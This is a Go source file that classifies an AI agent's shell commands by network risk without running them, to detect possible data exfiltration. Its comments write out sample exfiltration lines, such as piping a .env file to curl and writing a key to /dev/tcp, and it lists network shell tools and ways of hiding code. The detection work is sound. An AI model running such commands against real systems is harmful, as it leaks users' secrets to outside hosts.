package classify

import (
	"fmt"
	"strings"
)

// BashCommand classifies a shell command line, as run by an agent's Bash
// tool, without running it. Every simple command in it is judged on its own
// (those in pipelines, lists, subshells, $(…), `…`, here-documents fed to
// interpreters, bash -c and eval strings, xargs and find -exec included)
// and the line takes the most dangerous class: one external command makes
// the whole line external. CanReadData and CanExfiltrate are taken over all
// the commands, so `cat .env | curl -d @- https://x` is external and reads
// data.
func BashCommand(cmd string) Result {
	v := script(cmd, 0)
	return Result{
		Class:         v.class,
		Confidence:    round(v.conf),
		Method:        MethodHeuristic,
		Reason:        "Bash command: " + v.reason(),
		CanReadData:   v.reads,
		CanExfiltrate: v.sends,
	}
}

// verdict is the class of one command, or of several combined. Its
// reason is formatted only for the verdict a line ends with: a line of
// thousands of commands has as many verdicts, one of which is kept.
type verdict struct {
	class        Class
	conf         float64
	format       string
	args         []any
	reads, sends bool
}

func (v verdict) reason() string { return fmt.Sprintf(v.format, v.args...) }

func judge(c Class, conf float64, format string, a ...any) verdict {
	reads, sends := capabilities(c)
	return verdict{class: c, conf: conf, format: format, args: a, reads: reads, sends: sends}
}

const (
	sureNet   = 0.9  // the command exists to talk to other hosts
	sureLocal = 0.85 // a well-known local command
	fetches   = 0.7  // downloads; the URL itself can carry data out
	runsCode  = 0.6  // runs code we cannot see
	unsure    = 0.5  // nothing known about it
	// maxNesting bounds how deep commands run commands (bash -c inside
	// eval inside sudo inside xargs…) before we stop following: hostile
	// input must not buy unbounded work.
	maxNesting = 16
)

func script(src string, depth int) verdict {
	if depth > maxNesting {
		return tooDeep()
	}
	cmds, ok, guessed := readShell(src)
	if len(cmds) == 0 {
		if !ok {
			return judge(Hybrid, unsure, "could not parse %q", clip(src))
		}
		return judge(Internal, sureLocal, "no command to run")
	}
	vs := make([]verdict, 0, len(cmds)+1)
	for _, c := range cmds {
		vs = append(vs, command(c, depth))
	}
	if guessed != nil {
		vs = append(vs, judge(Hybrid, unsure, "%s (%q): what runs may not be what it reads as", guessed.Trick, guessed.Word))
	}
	v := worst(vs)
	if !ok && v.class == Internal {
		// Bash would refuse the line, but what it would run instead of
		// what we read is anyone's guess.
		v.class, v.conf, v.sends = Hybrid, unsure, true
		v.format, v.args = "could not parse all of %q (unterminated quote or substitution)", []any{clip(src)}
	}
	return v
}

func tooDeep() verdict {
	return judge(Hybrid, unsure, "commands nested too deeply to follow")
}

func clip(s string) string {
	if r := []rune(s); len(r) > 60 {
		return string(r[:60]) + "…"
	}
	return s
}

func rank(c Class) int {
	switch c {
	case External:
		return 3
	case Hybrid, Unknown:
		return 2
	}
	return 1
}

// worst picks the most dangerous verdict. Among internal ones it picks the
// least certain, which bounds how sure the whole line can be; among the
// others the most certain, whose reason is the clearest.
func worst(vs []verdict) verdict {
	out := vs[0]
	var reads, sends bool
	for _, v := range vs {
		reads, sends = reads || v.reads, sends || v.sends
		r, o := rank(v.class), rank(out.class)
		better := v.class == Internal && v.conf < out.conf || v.class != Internal && v.conf > out.conf
		if r > o || r == o && better {
			out = v
		}
	}
	out.reads, out.sends = reads, sends
	return out
}

func command(c shellCommand, depth int) verdict {
	for _, list := range [][]string{c.words, c.redirects} {
		for _, w := range list {
			// Bash opens these paths as sockets: cat key > /dev/tcp/host/80.
			if strings.Contains(w, "/dev/tcp/") || strings.Contains(w, "/dev/udp/") {
				return judge(External, sureNet, "%q opens a network socket", w)
			}
		}
	}
	if v, ok := setsLoader(c.env); ok {
		return judge(Hybrid, runsCode, "%s is set for the command: it names a program, library or script that runs", v)
	}
	if words := skipPrefix(c.words); len(words) > 0 {
		if v, ok := pointsDBClient(commandName(words[0]), c.env); ok {
			return judge(Hybrid, fetches, "%s connects to the database server in %s", commandName(words[0]), clip(v))
		}
	}
	return simple(c.words, c.stdin, depth)
}

// simple classifies one simple command given as words.
func simple(words []string, stdin string, depth int) verdict {
	if depth > maxNesting {
		return tooDeep()
	}
	words = skipPrefix(words)
	if len(words) == 0 {
		// Sure, but never the least sure: the line's reason should name
		// a real command.
		return judge(Internal, 0.9, "only sets variables or opens a block")
	}
	if strings.Contains(words[0], "$") {
		return judge(Hybrid, unsure, "the command %q is only known at run time", words[0])
	}
	name, args := commandName(words[0]), words[1:]
	if w, ok := wrappers[name]; ok {
		return wrapped(name, w, args, stdin, depth)
	}
	switch name {
	case "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish":
		return shell(name, args, stdin, depth)
	case "eval":
		return script(strings.Join(args, " "), depth+1)
	case "source", ".":
		return judge(Hybrid, runsCode, "%s runs the shell script %s", name, strings.Join(args, " "))
	case "git":
		return git(args)
	case "gh":
		return gh(args)
	case "rsync":
		return rsync(args)
	case "find":
		return find(args, depth)
	case "openssl":
		if sub, _ := subcommand(args, nil); sub == "s_client" || sub == "s_server" || sub == "ocsp" {
			return judge(External, sureNet, "openssl %s talks to another host", sub)
		}
		return judge(Internal, sureLocal, "openssl works on local data")
	case "gpg", "gpg2":
		for _, a := range args {
			if strings.HasPrefix(a, "--send-key") || strings.HasPrefix(a, "--keyserver") {
				return judge(External, sureNet, "gpg %s talks to a key server", a)
			}
		}
		return judge(Internal, sureLocal, "gpg works on local data")
	case "open", "xdg-open", "start", "wslview", "sensible-browser":
		for _, a := range args {
			if strings.Contains(a, "://") {
				return judge(External, sureNet, "%s opens the URL %s", name, clip(a))
			}
		}
		return judge(Internal, sureLocal, "%s opens a local file", name)
	}
	if publishes, ok := builders[name]; ok && hasAny(args, publishes) {
		return judge(External, sureNet, "%s %s publishes to a registry", name, strings.Join(publishes, "/"))
	}
	if lang, ok := interpreter(name); ok {
		return code(name, lang, args, stdin)
	}
	if what, ok := netCommands[name]; ok {
		return judge(External, sureNet, "%s %s", name, what)
	}
	if _, ok := builders[name]; ok {
		if sub, _ := subcommand(args, nil); localSubcommands[name][sub] {
			return judge(Internal, sureLocal, "%s %s works locally", name, sub)
		}
		return judge(Hybrid, runsCode, "%s builds, tests, installs or runs code, which can use the network", name)
	}
	if cloudCLIs[name] {
		for _, a := range args {
			if la := strings.ToLower(a); strings.HasPrefix(la, "send") || la == "publish" {
				return judge(External, 0.8, "%s %s sends data out", name, a)
			}
		}
		return judge(Hybrid, runsCode, "%s manages cloud or cluster resources: it reads them and can send data to them", name)
	}
	if localCommands[name] {
		if v, ok := hiddenRunner(name, args); ok {
			return v
		}
		return judge(Internal, sureLocal, "%s works locally", name)
	}
	if strings.Contains(words[0], "/") {
		return judge(Hybrid, unsure, "%s runs a program not known here", words[0])
	}
	return judge(Hybrid, unsure, "%s is not a known command", name)
}

// skipPrefix drops what comes before the command word: variable
// assignments (FOO=1 cmd) and reserved words (if, then, do, !, {). For,
// select and case headers run nothing themselves; their bodies are
// separate commands.
func skipPrefix(words []string) []string {
	for len(words) > 0 {
		switch w := words[0]; {
		case isAssignment(w) || reserved[w]:
			words = words[1:]
		case w == "function":
			words = words[min(2, len(words)):]
		case w == "for" || w == "select" || w == "case":
			return nil
		default:
			return words
		}
	}
	return words
}

var reserved = set("!", "{", "}", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "esac", "in")

func isAssignment(w string) bool {
	name, _, ok := strings.Cut(w, "=")
	name = strings.TrimSuffix(name, "+")
	if !ok || name == "" {
		return false
	}
	for i, r := range name {
		letter := r == '_' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z'
		if !letter && (i == 0 || r < '0' || r > '9') {
			return false
		}
	}
	return true
}

// commandName reduces /usr/bin/curl, CURL.EXE and curl to curl.
func commandName(w string) string {
	if i := strings.LastIndexAny(w, `/\`); i >= 0 {
		w = w[i+1:]
	}
	return strings.TrimSuffix(strings.ToLower(w), ".exe")
}

// subcommand returns the first operand after options (skipping the values
// of options in valued) and the words after it.
func subcommand(args []string, valued map[string]bool) (string, []string) {
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case valued[a]:
			i++
		case strings.HasPrefix(a, "-"):
		default:
			return a, args[i+1:]
		}
	}
	return "", nil
}

func hasAny(args, want []string) bool {
	for _, a := range args {
		for _, w := range want {
			if a == w {
				return true
			}
		}
	}
	return false
}

// wrapper is a command that runs another one: sudo curl …, xargs curl ….
type wrapper struct {
	valued     map[string]bool // options that take a value
	positional int             // operands before the command (timeout's duration)
}

var wrappers = map[string]wrapper{
	"sudo": {valued: set("-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "--user", "--group", "--host",
		"--prompt", "--chdir", "--role", "--type", "--other-user", "--close-from", "--command-timeout")},
	"doas":         {valued: set("-u", "-C")},
	"env":          {valued: set("-u", "-C", "-S", "--unset", "--chdir", "--split-string")},
	"nohup":        {},
	"time":         {valued: set("-f", "-o", "--format", "--output")},
	"nice":         {valued: set("-n", "--adjustment")},
	"ionice":       {valued: set("-c", "-n", "-p", "-P", "-u", "--class", "--classdata")},
	"timeout":      {valued: set("-s", "-k", "--signal", "--kill-after"), positional: 1},
	"stdbuf":       {valued: set("-i", "-o", "-e", "--input", "--output", "--error")},
	"xargs":        {valued: set("-I", "-L", "-n", "-P", "-s", "-d", "-E", "-a", "--max-args", "--max-procs", "--delimiter", "--arg-file", "--max-lines", "--max-chars", "--eof")},
	"exec":         {valued: set("-a")},
	"command":      {},
	"builtin":      {},
	"setsid":       {},
	"caffeinate":   {valued: set("-t", "-w")},
	"chronic":      {},
	"unbuffer":     {},
	"torsocks":     {},
	"torify":       {},
	"proxychains":  {valued: set("-f")},
	"proxychains4": {valued: set("-f")},
	"strace":       {valued: set("-o", "-e", "-p", "-s", "-u", "-E", "-P", "-I", "-b", "-a", "-X")},
	"ltrace":       {valued: set("-o", "-e", "-p", "-s", "-u", "-n", "-a", "-A", "-D", "-F", "-l")},
	"watch":        {valued: set("-n", "--interval", "-q", "--equexit")},
	"su":           {valued: set("-c", "--command", "-s", "--shell", "-g", "--group", "-G", "--supp-group", "-w", "--whitelist-environment")},
}

// wrapped strips a wrapper and its options and classifies what it runs.
func wrapped(name string, w wrapper, args []string, stdin string, depth int) verdict {
	opts := map[string]string{}
	i := 0
	for ; i < len(args); i++ {
		a := args[i]
		if a == "--" {
			i++
			break
		}
		if !strings.HasPrefix(a, "-") || a == "-" {
			break
		}
		opts[a] = ""
		if w.valued[a] && i+1 < len(args) {
			i++
			opts[a] = args[i]
		}
	}
	rest := args[i:]
	if name == "env" {
		for len(rest) > 0 && isAssignment(rest[0]) {
			rest = rest[1:]
		}
	}
	for n := 0; n < w.positional && len(rest) > 0; n++ {
		rest = rest[1:]
	}
	switch {
	case name == "command" && hasAny(keys(opts), []string{"-v", "-V"}):
		return judge(Internal, sureLocal, "command -v only looks a command up")
	case name == "env" && (opts["-S"] != "" || opts["--split-string"] != ""):
		return script(opts["-S"]+opts["--split-string"]+" "+strings.Join(rest, " "), depth+1)
	case name == "su":
		if c := opts["-c"] + opts["--command"]; c != "" {
			return script(c, depth+1)
		}
		return judge(Hybrid, runsCode, "su starts a shell as another user")
	case name == "watch":
		// watch hands its operands to sh -c.
		return script(strings.Join(rest, " "), depth+1)
	}
	if len(rest) == 0 {
		return judge(Internal, sureLocal, "%s runs nothing else", name)
	}
	return simple(rest, stdin, depth+1)
}

func keys(m map[string]string) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

// shell handles sh -c '…', bash script.sh and bash <<EOF.
func shell(name string, args []string, stdin string, depth int) verdict {
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.ContainsRune(a[1:], 'c'):
			if i+1 < len(args) {
				return script(args[i+1], depth+1)
			}
			return judge(Hybrid, unsure, "%s -c without a command", name)
		case a == "-o" || a == "+o" || a == "-O" || a == "+O":
			i++
		case strings.HasPrefix(a, "-") || strings.HasPrefix(a, "+"):
		default:
			return judge(Hybrid, runsCode, "%s runs the script %s", name, a)
		}
	}
	if strings.TrimSpace(stdin) != "" {
		return script(stdin, depth+1)
	}
	return judge(Hybrid, runsCode, "%s starts a shell reading its input", name)
}

func git(args []string) verdict {
	if a := gitLoadsCode(args); a != "" {
		return judge(Hybrid, runsCode, "git %s: it runs hooks or reads configuration from a place the line chooses, whose commands run", clip(a))
	}
	sub, rest := subcommand(args, set("-C", "-c", "--git-dir", "--work-tree", "--namespace", "--super-prefix", "--config-env"))
	for _, a := range rest {
		if strings.HasPrefix(a, "--remote=") || a == "--remote" || strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--upload-pack") {
			return judge(Hybrid, fetches, "git %s %s talks to a remote or runs a program", sub, clip(a))
		}
	}
	switch sub {
	case "push", "send-email", "request-pull":
		return judge(External, sureNet, "git %s sends data to a remote", sub)
	case "lfs", "subtree", "svn", "p4":
		if hasAny(rest, []string{"push", "dcommit", "submit"}) {
			return judge(External, sureNet, "git %s sends data to a remote", sub)
		}
		return judge(Hybrid, fetches, "git %s talks to a remote", sub)
	case "clone", "fetch", "pull", "ls-remote", "submodule":
		return judge(Hybrid, fetches, "git %s fetches from a remote, whose URL can carry data", sub)
	case "":
		return judge(Internal, sureLocal, "git without a subcommand")
	}
	return judge(Internal, sureLocal, "git %s works on the local repository", sub)
}

// gh is GitHub's CLI. Reading GitHub is reading a code host, which is
// internal; writing issues or pull requests is hybrid, as for the MCP
// github server; a gist is a paste site.
func gh(args []string) verdict {
	sub, rest := subcommand(args, set("-R", "--repo", "--hostname"))
	action, _ := subcommand(rest, set("-R", "--repo"))
	switch {
	case sub == "gist" && (action == "create" || action == "new" || action == "edit"):
		return judge(External, sureNet, "gh gist %s publishes a gist", action)
	case sub == "api":
		return judge(Hybrid, fetches, "gh api can send any request to GitHub")
	case ghWrites[action]:
		return judge(Hybrid, 0.8, "gh %s %s writes to GitHub, where others may read it", sub, action)
	}
	return judge(Internal, 0.75, "gh %s %s reads from GitHub", sub, action)
}

var ghWrites = set("create", "comment", "edit", "review", "merge", "upload", "fork", "set", "publish", "new", "push", "sync")

// rsync is local unless an operand names a host (host:path, host::module,
// rsync://).
func rsync(args []string) verdict {
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		host, _, ok := strings.Cut(a, ":")
		if strings.HasPrefix(a, "rsync://") || ok && host != "" && !strings.Contains(host, "/") {
			return judge(External, sureNet, "rsync copies to or from the host in %s", a)
		}
	}
	return judge(Internal, sureLocal, "rsync copies between local paths")
}

// find is local, but its -exec runs commands.
func find(args []string, depth int) verdict {
	vs := []verdict{judge(Internal, sureLocal, "find searches local files")}
	for i := 0; i < len(args); i++ {
		switch args[i] {
		case "-exec", "-execdir", "-ok", "-okdir":
			j := i + 1
			for j < len(args) && args[j] != ";" && args[j] != "+" {
				j++
			}
			vs = append(vs, simple(args[i+1:j], "", depth+1))
			i = j
		}
	}
	return worst(vs)
}

// interpreter maps python3.12, perl5 and nodejs to the language whose
// inline-code flags apply.
func interpreter(name string) (string, bool) {
	base := strings.TrimRight(name, "0123456789.")
	switch base {
	case "python", "pypy", "node", "nodejs", "deno", "bun", "ruby", "perl", "php", "lua", "luajit", "osascript", "pwsh", "powershell":
		return base, true
	}
	return "", false
}

// inlineFlags introduce code on the command line; for deno it is the eval
// subcommand.
var inlineFlags = map[string][]string{
	"python": {"-c"}, "pypy": {"-c"},
	"node": {"-e", "--eval", "-p", "--print"}, "nodejs": {"-e", "--eval", "-p", "--print"},
	"bun": {"-e", "--eval", "-p", "--print"}, "deno": {"eval"},
	"ruby": {"-e"}, "perl": {"-e", "-E"}, "php": {"-r"}, "lua": {"-e"}, "luajit": {"-e"}, "osascript": {"-e"},
}

// code judges an interpreter run by the code it is given: inline, from a
// here-document, or in a file we cannot see.
func code(name, lang string, args []string, stdin string) verdict {
	src, from := "", ""
	for i := 0; i < len(args) && from == ""; i++ {
		a := args[i]
		la := strings.ToLower(a)
		switch {
		case (lang == "pwsh" || lang == "powershell") && (la == "-c" || la == "-command"):
			src, from = strings.Join(args[i+1:], " "), "inline code"
		case (lang == "pwsh" || lang == "powershell") && (strings.HasPrefix(la, "-e") || la == "-ec"):
			return judge(Hybrid, runsCode, "%s runs encoded code, which cannot be inspected", name)
		case hasAny([]string{a}, inlineFlags[lang]) || lang == "perl" && perlInline(a):
			if i+1 < len(args) {
				src = args[i+1]
			}
			from = "inline code"
		case (lang == "python" || lang == "pypy") && strings.HasPrefix(a, "-c") && len(a) > 2:
			src, from = a[2:], "inline code"
		case (lang == "python" || lang == "pypy") && a == "-m" && i+1 < len(args):
			return pythonModule(name, args[i+1])
		case a == "-":
			src, from = stdin, "a here-document"
		case strings.HasPrefix(a, "-"):
		default:
			return judge(Hybrid, runsCode, "%s runs the script %s", name, a)
		}
	}
	if from == "" && strings.TrimSpace(stdin) != "" {
		src, from = stdin, "a here-document"
	}
	if from == "" {
		return judge(Hybrid, runsCode, "%s starts an interpreter reading its input", name)
	}
	if marker := networkMarker(src); marker != "" {
		return judge(External, 0.8, "%s runs %s that uses the network (%s)", name, from, marker)
	}
	return judge(Hybrid, runsCode, "%s runs %s; no network use seen, but code can do anything", name, from)
}

// perlInline recognises bundled flags ending in e, as in perl -ne '…'.
func perlInline(a string) bool {
	if len(a) < 3 || a[0] != '-' || a[1] == '-' {
		return false
	}
	for _, r := range a[1:] {
		if r < 'a' || r > 'z' {
			if r != 'E' {
				return false
			}
		}
	}
	last := a[len(a)-1]
	return last == 'e' || last == 'E'
}

func pythonModule(name, module string) verdict {
	switch module {
	case "http.server", "smtpd", "aiosmtpd", "ftplib", "webbrowser":
		return judge(External, sureNet, "%s -m %s talks to the network", name, module)
	case "json.tool", "py_compile", "compileall", "tokenize", "base64", "zipfile", "tarfile":
		return judge(Internal, sureLocal, "%s -m %s works locally", name, module)
	}
	return judge(Hybrid, runsCode, "%s -m %s runs module code, which can use the network", name, module)
}

// networkMarkers are library and API names that mean code talks to other
// hosts, in the languages agents commonly run inline.
var networkMarkers = []string{
	"requests", "urllib", "http.client", "httpx", "aiohttp", "socket", "smtplib", "ftplib", "telnetlib", "paramiko",
	"pycurl", "websocket", "urlopen", "fetch(", "axios", "xmlhttprequest", "require('http", `require("http`,
	"node:http", "node:net", "node:dgram", "net.connect", "net/http", "net::http", "open-uri", "lwp::", "http::tiny",
	"io::socket", "invoke-webrequest", "invoke-restmethod", "iwr ", "irm ", "webclient", "system.net", "curl", "wget",
	"http://", "https://", "ftp://", "gethostbyname", "dns.resolver", "do shell script",
}

func networkMarker(src string) string {
	lower := strings.ToLower(src)
	for _, m := range networkMarkers {
		if strings.Contains(lower, m) {
			return strings.TrimSpace(m)
		}
	}
	return ""
}

// netCommands exist to talk to other hosts. DNS and ping count: a
// lookup of <secret>.attacker.example carries the secret out.
var netCommands = func() map[string]string {
	m := map[string]string{}
	for what, names := range map[string][]string{
		"sends or fetches data over HTTP": {"curl", "wget", "wget2", "aria2c", "axel", "http", "https", "xh", "httpie",
			"curlie", "lynx", "w3m", "links", "elinks"},
		"opens network connections":       {"nc", "ncat", "netcat", "socat", "telnet", "websocat", "wscat", "grpcurl", "nmap"},
		"connects to another host":        {"ssh", "scp", "sftp", "mosh", "autossh", "sshpass", "ssh-keyscan", "sshfs"},
		"transfers files to another host": {"ftp", "tftp", "lftp", "ncftp", "ncftpput", "smbclient", "croc", "wormhole", "ipfs"},
		"sends mail":                      {"mail", "mailx", "sendmail", "mutt", "neomutt", "msmtp", "swaks"},
		"sends packets or DNS queries that can carry data": {"ping", "ping6", "fping", "arping", "nslookup", "dig",
			"host", "drill", "whois", "traceroute", "tracepath", "mtr"},
		"exposes a local service to the internet": {"ngrok", "cloudflared", "localtunnel", "lt", "bore", "frpc"},
		"publishes to a paste site":               {"pastebinit", "gist", "wgetpaste"},
	} {
		for _, n := range names {
			m[n] = what
		}
	}
	return m
}()

// builders install packages or run project code (build scripts, tests), so
// they may do anything; the listed subcommands publish, which is external.
var builders = map[string][]string{
	"npm": {"publish"}, "pnpm": {"publish"}, "yarn": {"publish"}, "bun": {"publish"}, "npx": nil, "bunx": nil,
	"pnpx": nil, "pip": nil, "pip3": nil, "pipx": nil, "uv": {"publish"}, "uvx": nil, "poetry": {"publish"},
	"pdm": {"publish"}, "hatch": {"publish"}, "twine": {"upload"}, "flit": {"publish"}, "conda": nil, "mamba": nil,
	"cargo": {"publish"}, "gem": {"push"}, "bundle": nil, "go": nil, "dotnet": {"push"}, "nuget": {"push"},
	"mvn": {"deploy"}, "gradle": {"publish"}, "gradlew": {"publish"}, "make": nil, "cmake": nil, "ninja": nil,
	"bazel": nil, "composer": nil, "docker": {"push"}, "podman": {"push"}, "nerdctl": {"push"}, "buildah": {"push"},
	"helm": {"push"}, "apt": nil, "apt-get": nil, "brew": nil, "dnf": nil, "yum": nil, "pacman": nil, "apk": nil,
	"snap": nil, "port": nil, "choco": nil, "winget": nil, "pytest": nil, "tox": nil, "nox": nil, "jest": nil,
	"vitest": nil, "mocha": nil, "rake": nil, "just": nil,
}

// localSubcommands of builders that neither run project code nor use the
// network.
var localSubcommands = map[string]map[string]bool{
	"go":    set("fmt", "vet", "version", "env", "doc", "list", "help"),
	"cargo": set("fmt", "version", "help", "tree", "metadata"),
}

// cloudCLIs read and change remote resources the user owns; a send or
// publish subcommand (aws ses send-email, gcloud pubsub … publish) is
// external.
var cloudCLIs = set("aws", "gcloud", "gsutil", "az", "azcopy", "kubectl", "terraform", "tofu", "pulumi", "heroku",
	"vercel", "netlify", "flyctl", "fly", "wrangler", "doctl", "oc", "eksctl", "firebase", "supabase", "rclone",
	"s3cmd", "glab", "hub", "hcloud", "ansible", "ansible-playbook", "chrome", "chromium", "google-chrome", "firefox",
	"msedge")

// localCommands work on local files, processes and text.
var localCommands = set(
	"cat", "ls", "ll", "dir", "head", "tail", "less", "more", "grep", "egrep", "fgrep", "rg", "ag", "ack", "fd", "sed",
	"awk", "gawk", "cut", "tr", "sort", "uniq", "wc", "diff", "cmp", "comm", "patch", "echo", "printf", "pwd", "cd",
	"pushd", "popd", "mkdir", "rmdir", "rm", "cp", "mv", "ln", "touch", "chmod", "chown", "chgrp", "stat", "file", "du",
	"df", "tree", "realpath", "readlink", "basename", "dirname", "which", "whereis", "type", "true", "false", "test",
	"[", "[[", "sleep", "date", "cal", "tee", "jq", "yq", "xq", "base64", "base32", "xxd", "od", "hexdump", "strings",
	"md5sum", "sha1sum", "sha256sum", "sha512sum", "shasum", "cksum", "tar", "zip", "unzip", "gzip", "gunzip", "bzip2",
	"xz", "zcat", "zstd", "7z", "export", "unset", "set", "shift", "read", "local", "declare", "typeset", "readonly",
	"alias", "unalias", "history", "ps", "top", "htop", "kill", "pkill", "pgrep", "lsof", "id", "whoami", "groups",
	"uname", "hostname", "uptime", "free", "printenv", "column", "fold", "fmt", "nl", "paste", "rev", "tac", "seq", "yes",
	"expr", "bc", "dc", "split", "csplit", "join", "shuf", "mktemp", "install", "clear", "reset", "tput", "stty",
	"locale", "man", "info", "help", "wait", "jobs", "fg", "bg", "disown", "trap", "ulimit", "umask", "getconf", "nproc",
	"lscpu", "lsblk", "vim", "vi", "nvim", "nano", "emacs", "bat", "exa", "eza", "fzf", "sqlite3", "psql", "mysql",
	"redis-cli", "mongosh", "duckdb", "pg_dump", "mysqldump", "exit", "return", "break", "continue", ":", "dd", "truncate",
	"pbcopy", "pbpaste", "xclip", "xsel", "wl-copy", "wl-paste", "ssh-keygen", "ssh-add", "iconv", "envsubst", "gofmt",
	"prettier", "eslint", "black", "ruff", "shellcheck", "systemctl", "journalctl", "launchctl", "code", "tmux", "screen",
	"getent", "hash", "let", "chattr", "lsattr", "sync", "mount", "umount", "sum", "look",
)
